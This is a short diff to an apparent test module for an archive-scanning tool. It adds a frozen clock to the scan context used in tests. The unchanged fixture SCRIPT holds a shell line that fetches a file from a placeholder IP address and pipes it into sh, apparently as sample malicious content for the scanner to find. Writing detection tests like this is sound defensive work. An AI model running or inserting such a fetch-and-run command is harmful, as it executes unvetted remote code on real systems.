@@ -17,6 +17,7 @@ from inspector.stage import Payload, ScanContext, ScanLimits
 from inspector.model import Artifact, ArtifactType
 from inspector.unpack.archives import ArchiveLimits, TarUnpacker
 from inspector.unpack.compressed import CompressedStreamUnpacker, gzip_name
+from tests.timing import frozen_clock
 
 SCRIPT = b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"
 
@@ -27,7 +28,7 @@ def payload(data: bytes, kind: ArtifactType) -> Payload:
 
 
 def ctx(deadline_s: float = 20.0) -> ScanContext:
-    return ScanContext(limits=ScanLimits(deadline_s=deadline_s))
+    return ScanContext(limits=ScanLimits(deadline_s=deadline_s), clock=frozen_clock)  # only 0 s passes
 
 
 def gzip_with_name(data: bytes, name: str) -> bytes:
